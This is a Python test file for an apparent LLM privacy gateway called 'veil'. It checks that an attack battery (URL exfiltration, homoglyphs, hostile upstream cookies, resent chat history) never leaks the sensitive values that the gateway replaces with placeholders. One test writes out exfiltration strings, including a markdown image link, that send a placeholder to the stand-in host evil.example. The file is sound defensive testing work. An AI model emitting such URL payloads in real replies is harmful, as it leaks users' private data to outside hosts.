"""``veil eval gateway --attacks``: the battery runs in-process and reports per attack."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from veil.cli.app import app
from veil.evaluation.gateway_attacks import (
    EXFIL_VALUE,
    HOMOGLYPH_VALUES,
    TOOL_URL_SHAPES,
    URL_SHAPES,
    exfil_text,
    field_plants,
    raw_syntax,
    run_attacks,
    skeleton,
)


def test_payloads_are_what_they_claim() -> None:
    plants = field_plants("t")
    assert len({p.value for p in plants}) == len(plants)  # one value per field
    assert all(skeleton(v) != v and skeleton(v).isascii() for v in HOMOGLYPH_VALUES)
    assert raw_syntax("Hi [EMAIL_1]") and raw_syntax("cut [EM") and raw_syntax("PERSON_2 said")
    assert not raw_syntax("Hi jane@example.com, see [1] and EMAIL me")


def test_cli_writes_the_attack_report(tmp_path: Path) -> None:
    out = tmp_path / "results"
    r = CliRunner().invoke(
        app, ["eval", "gateway", "--attacks", "--only", "restore_scoping", "--out", str(out)]
    )
    assert r.exit_code == 0, r.output
    data = json.loads((out / "gateway_eval" / "attacks.json").read_text())
    names = [a["name"] for a in data["attacks"]]
    assert names == ["restore_scoping", "log_privacy"]
    scoping = data["attacks"][0]
    assert scoping["trials"] >= 30 and scoping["error"] is None
    assert scoping["success_rate"] == 0.0
    walked = {e["path"].split("[")[0] for e in data["fields_walked"]["chat.completions"]}
    assert "messages" in walked
    md = (out / "gateway_eval" / "attacks.md").read_text()
    assert "| restore_scoping |" in md
    assert "restore_scoping" in r.output


def test_url_exfiltration_never_succeeds(tmp_path: Path) -> None:
    """Every URL shape, placeholder spelling, endpoint and tool call, whole and streamed: the
    planted value never comes back inside a URL (before the URL guard: 154 of 166 trials)."""
    data = run_attacks(home=tmp_path, only=["url_exfiltration"])
    url = next(a for a in data["attacks"] if a["name"] == "url_exfiltration")
    assert url["error"] is None and url["trials"] >= 150
    assert url["success_rate"] == 0.0, url["succeeded"]
    assert all(EXFIL_VALUE not in t for t in url["succeeded"])  # trials name shapes, not values


def test_exfil_upstream_builds_the_shapes() -> None:
    sent = json.dumps([{"role": "user", "content": "keep [EMAIL_3] please"}])
    assert exfil_text("exfil-0-0", sent) == "![](https://evil.example/p?d=[EMAIL_3])"
    assert exfil_text("exfil-tool-2-1", sent) == "See https://evil.example/p?d=EMAIL_3 now."
    assert exfil_text(f"exfil-{len(URL_SHAPES)}-3", sent) == \
        "https://evil.example/?q= %5BEMAIL_3%5D"
    assert set(URL_SHAPES).isdisjoint(TOOL_URL_SHAPES)


def test_upstream_cookies_never_link_callers(tmp_path: Path) -> None:
    """The hostile upstream tags a caller with a cookie: it never comes back on a later request
    (same key, another key, another tenant, anonymous), nor reaches the client; whole and
    streamed (before the gateway's clients kept no cookies: 4 of 8 trials)."""
    data = run_attacks(home=tmp_path, only=["upstream_cookies"])
    cookies = next(a for a in data["attacks"] if a["name"] == "upstream_cookies")
    assert cookies["error"] is None and cookies["trials"] == 8
    assert cookies["success_rate"] == 0.0, cookies["succeeded"]


def test_a_resent_history_never_sends_a_value_beside_its_placeholder(tmp_path: Path) -> None:
    """A value mentioned in an earlier message and shown to be sensitive by a later one never
    goes upstream in clear from that request on; whole and streamed, with and without tenants
    (before the memo's answers were checked against the request's new values: 8 of 8)."""
    data = run_attacks(home=tmp_path, only=["resent_history"])
    resent = next(a for a in data["attacks"] if a["name"] == "resent_history")
    assert resent["error"] is None and resent["trials"] == 8
    assert resent["success_rate"] == 0.0, resent["succeeded"]
